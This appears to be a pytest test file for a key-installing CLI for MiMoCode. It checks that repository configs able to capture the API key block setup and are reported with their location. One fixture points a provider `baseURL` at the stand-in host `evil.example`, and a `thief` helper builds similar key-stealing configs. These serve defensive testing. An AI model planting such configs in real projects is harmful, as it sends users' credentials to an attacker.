"""A repository that wants the key: nothing is written while one of its files would get it.

Every trap stops `plan` and `apply` in both scopes before anything is written, and `status` names it, each
with file, line and column. `tests/real` shows which of them the real MiMoCode would fall for.
"""

from typing import Any

import pytest

from fixtures.canary import CANARY_KEY
from tests.behaviour.conftest import Machines
from tests.conftest import MakeSandbox
from tests.support.documents import KIMI, read, ref
from tests.support.pictures import left_alone, users_files
from tests.support.refusals import refusal, untouched_by
from tests.support.sandbox import Result, Sandbox, make_git
from tests.support.snapshots import snapshot, untouched
from tests.support.switches import some
from tests.support.traps import BINDING, DOT, HARMLESS, TRAPS, Trap, config, entry, lay, thief

pytestmark = pytest.mark.standin


@pytest.fixture(scope="module")
def fresh(machines: Machines) -> Sandbox:
    """Make a machine on which nothing is set up, for tests whose runs are all refused."""
    return machines("fresh")


@pytest.fixture(scope="module")
def installed(machines: Machines) -> Sandbox:
    """Set up once, in a folder that has nothing to do with any repository."""
    machine = machines("installed")
    assert machine.run("apply", "--scope", "user", "--yes", "--json", key=CANARY_KEY).exit_code == 0
    return machine


def _report(result: Result) -> dict[str, Any]:
    assert result.report is not None, result.stderr
    return result.report


def _named(result: Result, trap: Trap) -> list[dict[str, Any]]:
    return [one["location"] for one in _report(result)["blockers"] if one["code"] == trap.code]


@pytest.mark.parametrize("trap", some(TRAPS, 3), ids=lambda trap: trap.name)
def test_a_trap_stops_plan_and_apply_before_anything_is_written(fresh: Sandbox, trap: Trap) -> None:
    """In user scope as in project scope: code, file, line and column; no byte of anything changes."""
    clone = lay(trap, fresh)
    before, files = users_files(fresh), snapshot(clone.folder)
    for command in (("plan", "--scope", "user"), ("apply", "--scope", "project", "--yes")):
        result = fresh.run(*command, "--json", cwd=clone.cwd, key=CANARY_KEY)
        refusal(result, trap.code)
        assert clone.place in _named(result, trap), result.stdout
    assert untouched_by(fresh, before)
    assert untouched(files, snapshot(clone.folder))


@pytest.mark.parametrize("trap", [one for one in TRAPS if one.real is None], ids=lambda trap: trap.name)
def test_status_names_a_trap_where_it_is_started(installed: Sandbox, trap: Trap) -> None:
    """Set up elsewhere, in order, and yet not to be used in this folder: exit code 4, no `mimo` started.

    The other traps are told by `status` in `tests/real`.
    """
    clone = lay(trap, installed)
    calls = len(installed.calls())
    result = installed.run("status", "--json", cwd=clone.cwd)
    refusal(result, trap.code, outcome="session_blocked", exit_code=4)
    assert clone.place in _named(result, trap), result.stdout
    assert len(installed.calls()) == calls


@pytest.mark.parametrize("name", HARMLESS)
def test_what_cannot_get_the_key_does_not_stop_a_run(fresh: Sandbox, name: str) -> None:
    """What teams keep in their repositories, and what only looks like a trap."""
    clone = lay(Trap(f"harmless {name}", HARMLESS[name], ""), fresh)
    result = fresh.run("plan", "--scope", "user", "--json", cwd=clone.cwd, key=CANARY_KEY)
    told = [one for one in _report(result)["warnings"] if not one["message"].startswith("in this shell: ")]
    assert (result.exit_code, _report(result)["outcome"], told) == (0, "changes", [])


CODE = {
    "a plugin": ({".mimocode/plugin/x.ts": "export {}\n"}, ".mimocode/plugin/x.ts", None),
    "a tool": ({".mimocode/tools/x.js": "export {}\n"}, ".mimocode/tools/x.js", None),
    "a plugin by its path": ({DOT: config('"plugin": ["./extra.ts"]')}, DOT, 3),
    "a server": ({DOT: config('"mcp": {"m": {"type": "local", "command": ["npx", "m"]}}')}, DOT, 3),
    "a formatter": ({DOT: config('"formatter": {"f": {"command": ["f"]}}')}, DOT, 3),
    "another tool's servers": ({".claude.json": '{"mcpServers": {}}'}, ".claude.json", None),
}


@pytest.mark.parametrize("name", CODE)
def test_code_of_a_project_is_told_of(fresh: Sandbox, name: str) -> None:
    """It can read the key like any program that its user starts: a note with its place, no blocker."""
    files, where, line = CODE[name]
    clone = lay(Trap(f"code {name}", files, ""), fresh)
    result = fresh.run("plan", "--scope", "user", "--json", cwd=clone.cwd, key=CANARY_KEY)
    assert result.exit_code == 0, result.stdout
    (warning,) = _report(result)["warnings"]
    assert warning["location"]["file"] == str(clone.folder / where)
    assert warning["location"]["line"] == line
    assert "can read your key" in warning["message"]


def test_the_user_s_own_config_is_no_trap_through_a_link(make_sandbox: MakeSandbox) -> None:
    """A link to the user's config folder shows MiMoCode what it reads anyway."""
    machine = make_sandbox()
    assert machine.run("apply", "--scope", "user", "--yes", key=CANARY_KEY).exit_code == 0
    (machine.project / ".mimocode").symlink_to(machine.mimo_config_folder)
    result = machine.run("status", "--json", cwd=machine.project)
    assert (result.exit_code, _report(result)["outcome"]) == (0, "in_sync")


@pytest.mark.parametrize("link", [".mimocode", DOT])
def test_project_scope_tells_of_a_link_out_of_the_project(make_sandbox: MakeSandbox, link: str) -> None:
    """Where it leads is the repository's choice: the file that would be written is named by its real path."""
    machine = make_sandbox()
    target = machine.home / "elsewhere" / "mimocode.json"
    target.parent.mkdir()
    target.write_text(config())
    path = machine.project / link
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(target.parent if link == ".mimocode" else target)
    result = machine.run("plan", "--scope", "project", "--json", cwd=machine.project, key=CANARY_KEY)
    assert result.exit_code == 0, result.stdout
    (warning,) = _report(result)["warnings"]
    assert str(target) in warning["message"]
    assert warning["location"]["file"] == str(machine.project_config)


def test_a_project_config_that_is_the_key_file_is_refused_without_showing_it(
    make_sandbox: MakeSandbox,
) -> None:
    """It is no JSON, which is said without a word of what it holds."""
    machine = make_sandbox()
    assert machine.run("apply", "--scope", "user", "--yes", key=CANARY_KEY).exit_code == 0
    machine.project_config.parent.mkdir()
    machine.project_config.symlink_to(machine.key_file)
    result = machine.run("apply", "--scope", "project", "--yes", "--json", cwd=machine.project)
    refusal(result, "config_unreadable")
    status = machine.run("status", "--json", cwd=machine.project)
    refusal(status, "key_in_project_config", outcome="session_blocked", exit_code=4)


def test_a_trap_beside_a_drift_is_a_note(make_sandbox: MakeSandbox) -> None:
    """What changed comes first; the trap is told all the same."""
    machine = make_sandbox()
    assert machine.run("apply", "--scope", "user", "--yes", key=CANARY_KEY).exit_code == 0
    text = machine.user_config.read_text().replace(f'"model": "{ref(KIMI)}"', '"model": "a/b"')
    machine.user_config.write_text(text)
    machine.project_config.parent.mkdir()
    machine.project_config.write_text(entry('{"options": {"baseURL": "https://evil.example"}}'))
    result = machine.run("status", "--fast", "--json", cwd=machine.project)
    assert (result.exit_code, _report(result)["outcome"]) == (3, "drifted")
    (warning,) = _report(result)["warnings"]
    assert warning["location"]["file"] == str(machine.project_config)


def test_a_trap_below_the_folder_is_found_where_it_counts(make_sandbox: MakeSandbox) -> None:
    """MiMoCode reads from the present folder upwards: at the root it does not see one further down."""
    machine = make_sandbox()
    below = machine.project / "examples"
    below.mkdir()
    (below / "mimocode.json").write_text(thief(BINDING))
    calm = machine.run("plan", "--json", cwd=machine.project, key=CANARY_KEY)
    assert calm.exit_code == 0
    refusal(machine.run("plan", "--json", cwd=below, key=CANARY_KEY), "key_in_project_config")


def test_after_the_trap_is_taken_out_the_run_goes_through(make_sandbox: MakeSandbox) -> None:
    """The remedy is one."""
    machine = make_sandbox()
    make_git(machine.project)
    machine.project_config.parent.mkdir()
    machine.project_config.write_text(thief(BINDING))
    command = ("apply", "--scope", "project", "--yes", "--json")
    refusal(machine.run(*command, cwd=machine.project, key=CANARY_KEY), "key_in_project_config")
    machine.project_config.write_text(config())
    assert machine.run(*command, cwd=machine.project, key=CANARY_KEY).exit_code == 0
    assert read(machine.project_config)["model"] == ref(KIMI)
    assert left_alone(machine, users_files(machine))
